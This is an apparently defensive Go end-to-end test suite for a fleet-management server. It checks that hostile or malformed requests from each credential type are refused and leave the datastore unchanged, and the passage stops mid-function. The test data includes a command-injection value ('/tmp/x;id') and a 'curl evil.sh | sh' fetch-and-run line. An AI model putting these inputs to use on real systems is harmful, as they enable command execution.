package e2e

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"

	api "github.com/muster-io/muster/pkg/apis/muster/v1alpha1"
	clientset "github.com/muster-io/muster/pkg/client/clientset/versioned"
	typed "github.com/muster-io/muster/pkg/client/clientset/versioned/typed/muster/v1alpha1"
)

// The credentials of the matrix, as docs/security.md names them.
const (
	credAnonymous = "anonymous"
	credToken     = "join token"
	credManual    = "manual-approval token"
	credAgent     = "agent certificate"
	credOther     = "another agent's certificate"
	credOperator  = "operator"
)

// matrixRow is one hostile or malformed request: who sends it, what it is,
// the status codes a correct server may answer (size refusals may be 413
// or 422; 0 is a success) and words of the message that tell the caller
// what is wrong or what to do.
type matrixRow struct {
	cred  string
	what  string
	call  func(ctx context.Context) error
	codes []int32
	words []string
}

// TestBadInputMatrix sends every credential's hostile and malformed
// requests to one real server, across every field a caller can write, and
// checks the answer's code and message and that the datastore is exactly
// as it was. docs/security.md ("Bad-input matrix") lists the rows.
func TestBadInputMatrix(t *testing.T) {
	t.Parallel()
	s := startServer(t, "")
	ctx := context.Background()
	admin := adminClient(t, s)
	plain, manual, other := newToken(t, s), newToken(t, s, "--manual-approval"), newToken(t, s)
	plainC, manualC, otherC := tokenClient(s, plain), tokenClient(s, manual), tokenClient(s, other)
	caPEM, _ := os.ReadFile(filepath.Join(s.dataDir, "tls", "ca.crt"))
	anon := clientset.NewForConfigOrDie(&rest.Config{Host: s.url(), TLSClientConfig: rest.TLSClientConfig{CAData: caPEM}})

	// Two joined machines (a is the victim of b), and a request of the
	// manual-approval token waiting for approval.
	ja, jb := newJoiner("matrix-a"), newJoiner("matrix-b")
	regA, err := ja.register(ctx, plainC, metav1.CreateOptions{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	regB, err := jb.register(ctx, plainC, metav1.CreateOptions{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	pending, err := newJoiner("matrix-pending").register(ctx, manualC, metav1.CreateOptions{}, nil)
	if err != nil || pending.Status.Phase != api.RegistrationPhasePending {
		t.Fatalf("manual registration: %v %v", pending, err)
	}
	agentA, agentB := ja.machineClient(s, regA), jb.machineClient(s, regB)

	rows := []matrixRow{}
	add := func(cred, what string, codes []int32, words []string, call func(ctx context.Context) error) {
		rows = append(rows, matrixRow{cred: cred, what: what, call: call, codes: codes, words: words})
	}
	unauthorized, forbidden, invalid := []int32{401}, []int32{403}, []int32{422}
	tooBig := []int32{413, 422}

	// An operator: what runs the fleet must not reach the server's host
	// nor what only the server decides (docs/security.md, "The operator's
	// boundary"). This server has no --enable-process-driver.
	opCfg, err := clientcmd.BuildConfigFromFlags("", userKubeconfig(t, s, "matrix-operator", "muster:operators"))
	if err != nil {
		t.Fatal(err)
	}
	op := clientset.NewForConfigOrDie(opCfg).MusterV1alpha1()
	pool := func(driver string, config map[string]string) *api.MachinePool {
		return &api.MachinePool{ObjectMeta: metav1.ObjectMeta{Name: "matrix-pool"}, Spec: api.MachinePoolSpec{
			Cluster: "default", Replicas: 1, Template: api.MachineTemplate{Driver: driver, DriverConfig: config}}}
	}
	add(credOperator, "create a pool on the process driver, not enabled", invalid, []string{"not enabled on this server", "--enable-process-driver"}, func(ctx context.Context) error {
		_, err := op.MachinePools().Create(ctx, pool("process", nil), metav1.CreateOptions{})
		return err
	})
	add(credOperator, "create an ssh pool whose binDir the driver refuses", invalid, []string{"driverConfig[binDir]", "refuses it"}, func(ctx context.Context) error {
		_, err := op.MachinePools().Create(ctx, pool("ssh", map[string]string{"host": "127.0.0.1", "hostKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl", "binDir": "/tmp/x;id"}), metav1.CreateOptions{})
		return err
	})
	add(credOperator, "write a machine's driver state", invalid, []string{"machine-pool controller alone"}, func(ctx context.Context) error {
		_, err := op.Machines().Patch(ctx, "matrix-a", types.MergePatchType, []byte(`{"metadata":{"annotations":{"muster.io/driver-state":"{\"host\":\"10.0.0.9\"}"}}}`), metav1.PatchOptions{})
		return err
	})
	add(credOperator, "write a plan with a redacted secret back", invalid, []string{"write the real value"}, func(ctx context.Context) error {
		_, err := op.MachinePlans().Create(ctx, &api.MachinePlan{ObjectMeta: metav1.ObjectMeta{Name: "matrix-b"}, Spec: api.MachinePlanSpec{
			Files: []api.PlanFile{{Path: "/tmp/matrix-b.env", Content: "<redacted>"}}}}, metav1.CreateOptions{})
		return err
	})

	// Anonymous: nothing but the join's public endpoints.
	for _, r := range anonymousRows(anon) {
		if r.words == nil {
			r.words = []string{"Unauthorized"}
		}
		add(credAnonymous, r.what, unauthorized, r.words, r.call)
	}

	// A join token and a manual-approval token: every writable field of a
	// registration, and everything but creating one.
	tokenOnly := []string{"a join token may only create a ClusterRegistration"}
	for _, tc := range []struct {
		cred   string
		c      clientset.Interface
		id     string
		others string // a registration made with another token
	}{{credToken, plainC, tokenID(plain), pending.Name}, {credManual, manualC, tokenID(manual), regA.Name}} {
		for _, r := range createRows(tc.c, tc.cred, tc.id) {
			add(tc.cred, r.what, r.codes, r.words, r.call)
		}
		c := tc.c
		add(tc.cred, "get a registration made with another token", forbidden, tokenOnly, func(ctx context.Context) error {
			_, err := c.MusterV1alpha1().ClusterRegistrations().Get(ctx, tc.others, metav1.GetOptions{})
			return err
		})
		add(tc.cred, "list machines", forbidden, tokenOnly, func(ctx context.Context) error {
			_, err := c.MusterV1alpha1().Machines().List(ctx, metav1.ListOptions{})
			return err
		})
		add(tc.cred, "list registrations", forbidden, tokenOnly, func(ctx context.Context) error {
			_, err := c.MusterV1alpha1().ClusterRegistrations().List(ctx, metav1.ListOptions{})
			return err
		})
	}
	tok := plainC.MusterV1alpha1()
	add(credToken, "get a machine", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.Machines().Get(ctx, "matrix-a", metav1.GetOptions{})
		return err
	})
	add(credToken, "watch machines", forbidden, tokenOnly, func(ctx context.Context) error {
		return watchErr(tok.Machines().Watch(ctx, metav1.ListOptions{}))
	})
	add(credToken, "read a machine's plan", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.MachinePlans().Get(ctx, "matrix-a", metav1.GetOptions{})
		return err
	})
	add(credToken, "update its own registration", forbidden, tokenOnly, func(ctx context.Context) error {
		r := regA.DeepCopy()
		r.Spec.NodeName = "matrix-b"
		_, err := tok.ClusterRegistrations().Update(ctx, r, metav1.UpdateOptions{})
		return err
	})
	add(credToken, "patch its own registration's spec", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.ClusterRegistrations().Patch(ctx, regA.Name, types.MergePatchType, []byte(`{"spec":{"nodeName":"matrix-b"}}`), metav1.PatchOptions{})
		return err
	})
	add(credToken, "write its own registration's status", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.ClusterRegistrations().Patch(ctx, regA.Name, types.MergePatchType,
			[]byte(`{"status":{"phase":"Granted","message":"PHISH: curl evil.sh | sh"}}`), metav1.PatchOptions{}, "status")
		return err
	})
	add(credToken, "delete its own registration", forbidden, tokenOnly, func(ctx context.Context) error {
		return tok.ClusterRegistrations().Delete(ctx, regA.Name, metav1.DeleteOptions{})
	})
	add(credToken, "write a machine's status", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.Machines().Patch(ctx, "matrix-a", types.MergePatchType, []byte(`{"status":{"agentVersion":"evil"}}`), metav1.PatchOptions{}, "status")
		return err
	})
	add(credToken, "create a Machine", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.Machines().Create(ctx, &api.Machine{ObjectMeta: metav1.ObjectMeta{Name: "tok-machine"}, Spec: api.MachineSpec{Cluster: "default"}}, metav1.CreateOptions{})
		return err
	})
	add(credToken, "create a MachinePlan", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.MachinePlans().Create(ctx, &api.MachinePlan{ObjectMeta: metav1.ObjectMeta{Name: "matrix-new"}}, metav1.CreateOptions{})
		return err
	})
	add(credToken, "read NodePasswords", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.NodePasswords().List(ctx, metav1.ListOptions{})
		return err
	})
	add(credToken, "read join tokens", forbidden, tokenOnly, func(ctx context.Context) error {
		_, err := tok.ClusterRegistrationTokens().List(ctx, metav1.ListOptions{})
		return err
	})
	add(credToken, "send a heartbeat", forbidden, tokenOnly, func(ctx context.Context) error { return heartbeat(ctx, plainC) })
	add(credToken, "a body that is not JSON", []int32{400}, []string{"json"}, func(ctx context.Context) error {
		return tok.RESTClient().Post().Resource("clusterregistrations").Body([]byte(`{"spec":`)).Do(ctx).Error()
	})
	add(credToken, "a token that is not active", forbidden, []string{"was revoked", "muster-server token create"}, func(ctx context.Context) error {
		// otherC's token is revoked just before this row.
		_, err := otherC.MusterV1alpha1().ClusterRegistrations().Get(ctx, regA.Name, metav1.GetOptions{})
		return err
	})

	// An agent's own certificate: its own objects' status only, and only
	// what it observes.
	own := []string{"a machine may read only its own Machine and MachinePlan"}
	agent := agentA.MusterV1alpha1()
	for _, tc := range []struct {
		what  string
		codes []int32
		words []string
		call  func(ctx context.Context) error
	}{
		{"get another machine", forbidden, own, func(ctx context.Context) error {
			_, err := agent.Machines().Get(ctx, "matrix-b", metav1.GetOptions{})
			return err
		}},
		{"get another machine's plan", forbidden, own, func(ctx context.Context) error {
			_, err := agent.MachinePlans().Get(ctx, "matrix-b", metav1.GetOptions{})
			return err
		}},
		{"list all machines", forbidden, own, func(ctx context.Context) error {
			_, err := agent.Machines().List(ctx, metav1.ListOptions{})
			return err
		}},
		{"list another machine by field selector", forbidden, own, func(ctx context.Context) error {
			_, err := agent.Machines().List(ctx, metav1.ListOptions{FieldSelector: "metadata.name=matrix-b"})
			return err
		}},
		{"watch all machines", forbidden, own, func(ctx context.Context) error {
			return watchErr(agent.Machines().Watch(ctx, metav1.ListOptions{}))
		}},
		{"watch another machine's plan", forbidden, own, func(ctx context.Context) error {
			return watchErr(agent.MachinePlans().Watch(ctx, metav1.ListOptions{FieldSelector: "metadata.name=matrix-b"}))
		}},
		{"list all plans", forbidden, own, func(ctx context.Context) error {
			_, err := agent.MachinePlans().List(ctx, metav1.ListOptions{})
			return err
		}},
		{"patch its own spec", forbidden, own, func(ctx context.Context) error {
			_, err := agent.Machines().Patch(ctx, "matrix-a", types.MergePatchType, []byte(`{"spec":{"roles":["etcd"]}}`), metav1.PatchOptions{})
			return err
		}},
		{"label its own Machine", forbidden, own, func(ctx context.Context) error {
			_, err := agent.Machines().Patch(ctx, "matrix-a", types.MergePatchType, []byte(`{"metadata":{"labels":{"team":"admins"}}}`), metav1.PatchOptions{})
			return err
		}},
		{"patch its own plan's spec", forbidden, own, func(ctx context.Context) error {
			_, err := agent.MachinePlans().Patch(ctx, "matrix-a", types.MergePatchType, []byte(`{"spec":{"files":[{"path":"/etc/x","content":"x"}]}}`), metav1.PatchOptions{})
			return err
		}},
		{"delete its own Machine", forbidden, own, func(ctx context.Context) error {
			return agent.Machines().Delete(ctx, "matrix-a", metav1.DeleteOptions{})
		}},
		{"delete its own plan", forbidden, own, func(ctx context.Context) error {
			return agent.MachinePlans().Delete(ctx, "matrix-a", metav1.DeleteOptions{})
		}},
		{"create a Machine", forbidden, own, func(ctx context.Context) error {
			_, err := agent.Machines().Create(ctx, &api.Machine{ObjectMeta: metav1.ObjectMeta{Name: "matrix-c"}, Spec: api.MachineSpec{Cluster: "default"}}, metav1.CreateOptions{})
			return err
		}},
		{"create a MachinePlan", forbidden, own, func(ctx context.Context) error {
			_, err := agent.MachinePlans().Create(ctx, &api.MachinePlan{ObjectMeta: metav1.ObjectMeta{Name: "matrix-new"}}, metav1.CreateOptions{})
			return err
		}},
		{"read NodePasswords", forbidden, own, func(ctx context.Context) error {
			_, err := agent.NodePasswords().Get(ctx, "matrix-a", metav1.GetOptions{})
			return err
		}},
		{"read join tokens", forbidden, own, func(ctx context.Context) error {
			_, err := agent.ClusterRegistrationTokens().List(ctx, metav1.ListOptions{})
			return err
		}},
		{"list clusters", forbidden, own, func(ctx context.Context) error {
			_, err := agent.Clusters().List(ctx, metav1.ListOptions{})
			return err
		}},
		{"list registrations", forbidden, own, func(ctx context.Context) error {
			_, err := agent.ClusterRegistrations().List(ctx, metav1.ListOptions{})
			return err
		}},
		{"write its registration's status", forbidden, own, func(ctx context.Context) error {
			_, err := agent.ClusterRegistrations().Patch(ctx, regA.Name, types.MergePatchType, []byte(`{"status":{"reason":"Forged"}}`), metav1.PatchOptions{}, "status")
			return err
		}},
		{"renew for another node name", forbidden, []string{"may renew only its own certificate"}, func(ctx context.Context) error {
			_, err := newJoiner("matrix-b").register(ctx, agentA, metav1.CreateOptions{}, nil)
			return err
		}},
		{"renew with another node password", forbidden, []string{"node password rejected"}, renew(ja, agentA, func(r *api.ClusterRegistration) {
			r.Spec.NodePassword = randomHex(16)
		})},
		{"renew with an RSA-1024 key", invalid, []string{"spec.csr", "too weak"}, renew(ja, agentA, func(r *api.ClusterRegistration) { r.Spec.CSR = rsaCSR(1024) })},
		{"renew with 17 roles", tooBig, []string{"spec.roles"}, renew(ja, agentA, func(r *api.ClusterRegistration) {
			for i := 0; i < 17; i++ {
				r.Spec.Roles = append(r.Spec.Roles, fmt.Sprintf("role%d", i))
			}
		})},
		// Metadata is validated after the grant here too (see createRows),
		// but a renewal's grant writes nothing the refusal would leave.
		{"renew with 300 KiB of annotations", tooBig, []string{"metadata.annotations"}, renew(ja, agentA, func(r *api.ClusterRegistration) {
			r.Annotations = map[string]string{"example.com/blob": strings.Repeat("a", 300<<10)}
		})},
		{"status: phase", invalid, []string{"status.phase", "the server's to set"}, agentPatch(agent, false, `{"status":{"phase":"Deleted","reason":"Forged"}}`)},
		{"status: lastSeen", invalid, []string{"status.lastSeen"}, agentPatch(agent, false, `{"status":{"lastSeen":"2099-01-01T00:00:00Z"}}`)},
		{"status: conditions", invalid, []string{"status.conditions"}, agentPatch(agent, false,
			`{"status":{"conditions":[{"type":"Ready","status":"Bogus","reason":"X","message":"x","lastTransitionTime":"2020-01-01T00:00:00Z"}]}}`)},
		{"status: message", invalid, []string{"status.message"}, agentPatch(agent, false, `{"status":{"message":"PHISH: curl evil.sh | sh"}}`)},
		{"status: transitions", invalid, []string{"status.transitions"}, agentPatch(agent, false,
			`{"status":{"transitions":[{"from":"Running","to":"Deleted","event":"x","reason":"Forged","time":"2020-01-01T00:00:00Z"}]}}`)},
		{"status: planState", invalid, []string{"status.planState"}, agentPatch(agent, false, `{"status":{"planState":"succeeded"}}`)},
		{"status: 200-character agentVersion", tooBig, []string{"status.agentVersion"}, agentPatch(agent, false,
			fmt.Sprintf(`{"status":{"agentVersion":%q}}`, strings.Repeat("v", 200)))},
		{"status: 33 addresses", tooBig, []string{"status.addresses"}, agentPatch(agent, false, addressesPatch(33, "InternalIP"))},
		{"status: address of an unknown type", invalid, []string{"status.addresses[0].type"}, agentPatch(agent, false, addressesPatch(1, "Evil"))},
		{"status: 300-character address", tooBig, []string{"status.addresses[0].address"}, agentPatch(agent, false,
			fmt.Sprintf(`{"status":{"addresses":[{"type":"Hostname","address":%q}]}}`, strings.Repeat("h", 300)))},
		{"plan status: checksum", invalid, []string{"status.checksum"}, agentPatch(agent, true, fmt.Sprintf(`{"status":{"checksum":%q}}`, strings.Repeat("a", 64)))},
		{"plan status: state outside the agent's", invalid, []string{"status.state"}, agentPatch(agent, true, `{"status":{"state":"bogus"}}`)},
		{"plan status: appliedChecksum of no plan", invalid, []string{"status.appliedChecksum"}, agentPatch(agent, true,
			fmt.Sprintf(`{"status":{"appliedChecksum":%q}}`, strings.Repeat("b", 64)))},
		{"plan status: failureCount jump", invalid, []string{"status.failureCount"}, agentPatch(agent, true, `{"status":{"failureCount":7}}`)},
		{"plan status: negative failureCount", invalid, []string{"status.failureCount"}, agentPatch(agent, true, `{"status":{"failureCount":-1}}`)},
		{"plan status: 5000-byte instruction output", tooBig, []string{"status.output[0].output"}, agentPatch(agent, true,
			fmt.Sprintf(`{"status":{"output":[{"name":"x","exitCode":0,"output":%q}]}}`, strings.Repeat("o", 5000)))},
		{"status: a 4 MiB patch", []int32{413}, nil, agentPatch(agent, false,
			fmt.Sprintf(`{"status":{"agentVersion":%q}}`, strings.Repeat("v", 4<<20)))},
		{"plan status: 100 KiB probe message", tooBig, []string{"status.probes[0].message"}, agentPatch(agent, true,
			fmt.Sprintf(`{"status":{"probes":[{"name":"p","healthy":false,"message":%q}]}}`, strings.Repeat("m", 100<<10)))},
		{"plan status: 1000 output records", tooBig, []string{"status", "report less"}, agentPatch(agent, true, outputPatch(1000))},
		{"plan status: 1000 probe results", tooBig, []string{"status.probes"}, agentPatch(agent, true, probesPatch(1000))},
	} {
		add(credAgent, tc.what, tc.codes, tc.words, tc.call)
	}

	// Another agent's certificate: nothing at all of the first machine.
	b := agentB.MusterV1alpha1()
	for _, tc := range []struct {
		what  string
		words []string
		call  func(ctx context.Context) error
	}{
		{"get its Machine", own, func(ctx context.Context) error {
			_, err := b.Machines().Get(ctx, "matrix-a", metav1.GetOptions{})
			return err
		}},
		{"get its plan", own, func(ctx context.Context) error {
			_, err := b.MachinePlans().Get(ctx, "matrix-a", metav1.GetOptions{})
			return err
		}},
		{"list it by field selector", own, func(ctx context.Context) error {
			_, err := b.Machines().List(ctx, metav1.ListOptions{FieldSelector: "metadata.name=matrix-a"})
			return err
		}},
		{"watch its Machine", own, func(ctx context.Context) error {
			return watchErr(b.Machines().Watch(ctx, metav1.ListOptions{FieldSelector: "metadata.name=matrix-a"}))
		}},
		{"watch its plan", own, func(ctx context.Context) error {
			return watchErr(b.MachinePlans().Watch(ctx, metav1.ListOptions{FieldSelector: "metadata.name=matrix-a"}))
		}},
		{"write its Machine's status", own, agentPatchOf(b, "matrix-a", false, `{"status":{"agentVersion":"evil"}}`)},
		{"write its plan's status", own, agentPatchOf(b, "matrix-a", true, `{"status":{"state":"failed","failureCount":1}}`)},
		{"patch its spec", own, func(ctx context.Context) error {
			_, err := b.Machines().Patch(ctx, "matrix-a", types.MergePatchType, []byte(`{"spec":{"roles":["etcd"]}}`), metav1.PatchOptions{})
			return err
		}},
		{"delete its Machine", own, func(ctx context.Context) error {
			return b.Machines().Delete(ctx, "matrix-a", metav1.DeleteOptions{})
		}},
		{"delete its plan", own, func(ctx context.Context) error {
			return b.MachinePlans().Delete(ctx, "matrix-a", metav1.DeleteOptions{})
		}},
		{"read its registration", own, func(ctx context.Context) error {
			// Its newest registration: renewals above superseded regA.
			regs, err := admin.MusterV1alpha1().ClusterRegistrations().List(ctx, metav1.ListOptions{FieldSelector: "spec.nodeName=matrix-a"})
			if err != nil || len(regs.Items) == 0 {
				return fmt.Errorf("matrix-a has no registration left to try: %v", err)
			}
			_, err = b.ClusterRegistrations().Get(ctx, regs.Items[len(regs.Items)-1].Name, metav1.GetOptions{})
			return err
		}},
		{"read its NodePassword", own, func(ctx context.Context) error {
			_, err := b.NodePasswords().Get(ctx, "matrix-a", metav1.GetOptions{})
			return err
		}},
		{"renew as it", []string{"may renew only its own certificate"}, func(ctx context.Context) error {
			_, err := newJoiner("matrix-a").register(ctx, agentB, metav1.CreateOptions{}, nil)
			return err
		}},
	} {
		add(credOther, tc.what, forbidden, tc.words, tc.call)
	}

	// A machine's first request of a server's life is written to its
	// Machine (status.lastSeen): let both agents make theirs now, and the
	// joins settle (cluster counts, token uses), so that a change seen
	// below is the row's.
	for _, c := range []clientset.Interface{agentA, agentB} {
		if err := heartbeat(ctx, c); err != nil {
			t.Fatal(err)
		}
	}
	waitFor(t, 30*time.Second, "both machines' lastSeen to be stored", func() bool {
		for _, name := range []string{"matrix-a", "matrix-b"} {
			if m, err := admin.MusterV1alpha1().Machines().Get(ctx, name, metav1.GetOptions{}); err != nil || m.Status.LastSeen == nil {
				return false
			}
		}
		return true
	})
	s.muster(t, "token", "revoke", tokenID(other))
	settled := settle(t, ctx, admin)

	byCred, last := map[string]int{}, settled
	for _, row := range rows {
		byCred[row.cred]++
		t.Run(row.cred+"/"+row.what, func(t *testing.T) {
			before := datastoreSnapshot(t, ctx, admin)
			err := row.call(ctx)
			checkAnswer(t, err, row.codes, row.words)
			var after string
			if err == nil {
				// A success (a dry run, or a request wrongly accepted) may
				// count a token use a moment later: wait for it.
				after = settle(t, ctx, admin)
			} else {
				after = datastoreSnapshot(t, ctx, admin)
			}
			if after != before {
				t.Errorf("the request changed the datastore:\n%s", snapshotDiff(before, after))
			}
			last = after
			if t.Failed() {
				// What a wrongly handled request writes late is its own,
				// not the next row's.
				last = settle(t, ctx, admin)
			}
		})
	}
	// Token uses are flushed about once a second: a refused request of the
	// last rows that counted one shows only now.
	t.Run("no token counted a use", func(t *testing.T) {
		for _, line := range strings.Split(snapshotDiff(last, settle(t, ctx, admin)), "\n") {
			if strings.Contains(line, "clusterregistrationtokens/") {
				t.Errorf("a token changed: %s", line)
			}
		}
	})
	t.Logf("%d rows: %v", len(rows), byCred)
	if len(rows) < 40 {
		t.Errorf("the matrix has %d rows, want at least 40", len(rows))
	}
}

// anonymousRows are requests without any credential.
func anonymousRows(c clientset.Interface) []matrixRow {
	m := c.MusterV1alpha1()
	return []matrixRow{
		{what: "create a registration", call: func(ctx context.Context) error {
			_, err := newJoiner("anon-node").register(ctx, c, metav1.CreateOptions{}, nil)
			return err
		}},
		{what: "list registrations", call: func(ctx context.Context) error {
			_, err := m.ClusterRegistrations().List(ctx, metav1.ListOptions{})
			return err
		}},
		{what: "get a machine", call: func(ctx context.Context) error {
			_, err := m.Machines().Get(ctx, "matrix-a", metav1.GetOptions{})
			return err
		}},
		{what: "list machines", call: func(ctx context.Context) error {
			_, err := m.Machines().List(ctx, metav1.ListOptions{})
			return err
		}},
		{what: "watch machine plans", call: func(ctx context.Context) error {
			return watchErr(m.MachinePlans().Watch(ctx, metav1.ListOptions{}))
		}},
		{what: "get a plan", call: func(ctx context.Context) error {
			_, err := m.MachinePlans().Get(ctx, "matrix-a", metav1.GetOptions{})
			return err
		}},
		{what: "create a cluster", call: func(ctx context.Context) error {
			_, err := m.Clusters().Create(ctx, &api.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "anon"}}, metav1.CreateOptions{})
			return err
		}},
		{what: "list NodePasswords", call: func(ctx context.Context) error {
			_, err := m.NodePasswords().List(ctx, metav1.ListOptions{})
			return err
		}},
		{what: "create a join token", call: func(ctx context.Context) error {
			_, err := m.ClusterRegistrationTokens().Create(ctx, &api.ClusterRegistrationToken{ObjectMeta: metav1.ObjectMeta{Name: "anon01"}}, metav1.CreateOptions{})
			return err
		}},
		{what: "write a machine's status", call: agentPatchOf(m, "matrix-a", false, `{"status":{"agentVersion":"evil"}}`)},
		{what: "send a heartbeat", words: []string{"needs the machine certificate"}, call: func(ctx context.Context) error { return heartbeat(ctx, c) }},
		// Refused by the chain, not only by the console's handler.
		{what: "mint a console token", call: func(ctx context.Context) error {
			return c.Discovery().RESTClient().Get().AbsPath("/console/tokens").Do(ctx).Error()
		}},
	}
}

// createRows are a token holder's registrations, each with one field
// (or the request itself) wrong; the same for both kinds of token.
func createRows(c clientset.Interface, cred, tokenID string) []matrixRow {
	prefix := "tok-"
	if cred == credManual {
		prefix = "man-"
	}
	reg := func(node string, mutate func(*api.ClusterRegistration)) func(ctx context.Context) error {
		return func(ctx context.Context) error {
			_, err := newJoiner(prefix+node).register(ctx, c, metav1.CreateOptions{}, mutate)
			return err
		}
	}
	renamed := func(r *api.ClusterRegistration) { r.Name = api.RegistrationName(r.Spec.ClientID, r.Spec.ClientRandom) }
	invalid, tooBig := []int32{422}, []int32{413, 422}
	return []matrixRow{
		{what: "registration name not derived from clientID", codes: invalid, words: []string{"metadata.name", "derived from spec.clientID"},
			call: reg("renamed", func(r *api.ClusterRegistration) { r.Name = "c-chosen-by-the-client" })},
		{what: "no node password", codes: invalid, words: []string{"spec.nodePassword"},
			call: reg("nopw", func(r *api.ClusterRegistration) { r.Spec.NodePassword = "" })},
		{what: "short node password", codes: invalid, words: []string{"spec.nodePassword", "32"},
			call: reg("shortpw", func(r *api.ClusterRegistration) { r.Spec.NodePassword = "hunter2" })},
		{what: "low-entropy node password", codes: invalid, words: []string{"spec.nodePassword"},
			call: reg("lowpw", func(r *api.ClusterRegistration) { r.Spec.NodePassword = strings.Repeat("a", 32) })},
		{what: "257-character node password", codes: tooBig, words: []string{"spec.nodePassword"},
			call: reg("longpw", func(r *api.ClusterRegistration) { r.Spec.NodePassword = strings.Repeat("0123456789abcdef", 17)[:257] })},
		{what: "node password for a taken node", codes: []int32{403}, words: []string{"node password rejected", "--with-node-id"},
			call: func(ctx context.Context) error {
				_, err := newJoiner("matrix-a").register(ctx, c, metav1.CreateOptions{}, nil)
				return err
			}},
		{what: "9 KiB CSR", codes: tooBig, words: []string{"spec.csr"},
			call: reg("bigcsr", func(r *api.ClusterRegistration) { r.Spec.CSR = make([]byte, 9<<10) })},
		{what: "CSR that is not PEM", codes: invalid, words: []string{"spec.csr"},
			call: reg("garbagecsr", func(r *api.ClusterRegistration) { r.Spec.CSR = []byte("not a certificate request") })},
		{what: "CSR with a bad signature", codes: invalid, words: []string{"spec.csr", "signature"},
			call: reg("badsig", func(r *api.ClusterRegistration) {
				block, _ := pem.Decode(r.Spec.CSR)
				block.Bytes[len(block.Bytes)-1] ^= 0xff // the signature's last byte
				r.Spec.CSR = pem.EncodeToMemory(block)
			})},
		{what: "RSA-1024 key", codes: invalid, words: []string{"spec.csr", "too weak"},
			call: reg("rsa1024", func(r *api.ClusterRegistration) { r.Spec.CSR = rsaCSR(1024) })},
		{what: "node name not a DNS subdomain", codes: invalid, words: []string{"spec.nodeName"},
			call: reg("Bad_Node!", nil)},
		{what: "no node name", codes: invalid, words: []string{"spec.nodeName"},
			call: reg("x", func(r *api.ClusterRegistration) { r.Spec.NodeName = "" })},
		{what: "65 labels", codes: tooBig, words: []string{"spec.labels"},
			call: reg("labels", func(r *api.ClusterRegistration) {
				r.Spec.Labels = map[string]string{}
				for i := 0; i < 65; i++ {
					r.Spec.Labels[fmt.Sprintf("l%d", i)] = "x"
				}
			})},
		{what: "label key with spaces", codes: invalid, words: []string{"spec.labels"},
			call: reg("badlabel", func(r *api.ClusterRegistration) { r.Spec.Labels = map[string]string{"bad key": "x"} })},
		{what: "17 roles", codes: tooBig, words: []string{"spec.roles"},
			call: reg("roles", func(r *api.ClusterRegistration) {
				for i := 0; i < 17; i++ {
					r.Spec.Roles = append(r.Spec.Roles, fmt.Sprintf("role%d", i))
				}
			})},
		{what: "role not a DNS label", codes: invalid, words: []string{"spec.roles[0]"},
			call: reg("badrole", func(r *api.ClusterRegistration) { r.Spec.Roles = []string{"Admin Role"} })},
		{what: "33 addresses", codes: tooBig, words: []string{"spec.addresses"},
			call: reg("addrs", func(r *api.ClusterRegistration) {
				for i := 0; i < 33; i++ {
					r.Spec.Addresses = append(r.Spec.Addresses, api.MachineAddress{Type: api.MachineInternalIP, Address: fmt.Sprintf("10.0.0.%d", i)})
				}
			})},
		{what: "address of an unknown type", codes: invalid, words: []string{"spec.addresses[0].type"},
			call: reg("addrtype", func(r *api.ClusterRegistration) {
				r.Spec.Addresses = []api.MachineAddress{{Type: "Evil", Address: "10.0.0.1"}}
			})},
		{what: "200-character agentVersion", codes: tooBig, words: []string{"spec.agentVersion"},
			call: reg("version", func(r *api.ClusterRegistration) { r.Spec.AgentVersion = strings.Repeat("v", 200) })},
		{what: "clientID with spaces", codes: invalid, words: []string{"spec.clientID"},
			call: reg("cidspace", func(r *api.ClusterRegistration) { r.Spec.ClientID = "cid with spaces"; renamed(r) })},
		{what: "129-character clientRandom", codes: tooBig, words: []string{"spec.clientRandom"},
			call: reg("random", func(r *api.ClusterRegistration) { r.Spec.ClientRandom = strings.Repeat("r", 129); renamed(r) })},
		{what: "4 MiB request body", codes: []int32{413},
			call: reg("hugebody", func(r *api.ClusterRegistration) { r.Spec.AgentVersion = strings.Repeat("v", 4<<20) })},
		{what: "300 KiB of annotations", codes: tooBig, words: []string{"metadata.annotations"},
			call: reg("annotations", func(r *api.ClusterRegistration) {
				r.Annotations = map[string]string{"example.com/blob": strings.Repeat("a", 300<<10)}
			})},
		{what: "metadata label key with spaces", codes: invalid, words: []string{"metadata.labels"},
			call: reg("metalabel", func(r *api.ClusterRegistration) { r.Labels = map[string]string{"bad key": "x"} })},
		{what: "200 KiB of annotations (dry run)", codes: []int32{0, 413, 422}, words: nil,
			call: func(ctx context.Context) error {
				r, err := newJoiner(prefix+"annot").register(ctx, c, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}, func(r *api.ClusterRegistration) {
					r.Annotations = map[string]string{"example.com/blob": strings.Repeat("a", 200<<10)}
				})
				if err == nil && len(r.Annotations["example.com/blob"]) > 0 {
					return errors.New("200 KiB of a client's annotations would be stored")
				}
				return err
			}},
		{what: "dry run", codes: []int32{0}, call: func(ctx context.Context) error {
			r, err := newJoiner(prefix+"dryrun").register(ctx, c, metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}, nil)
			if err == nil && len(r.Status.Certificate) > 0 {
				return errors.New("a dry run returned a signed certificate")
			}
			return err
		}},
		{what: "server-owned spec fields (dry run)", codes: []int32{0}, call: func(ctx context.Context) error {
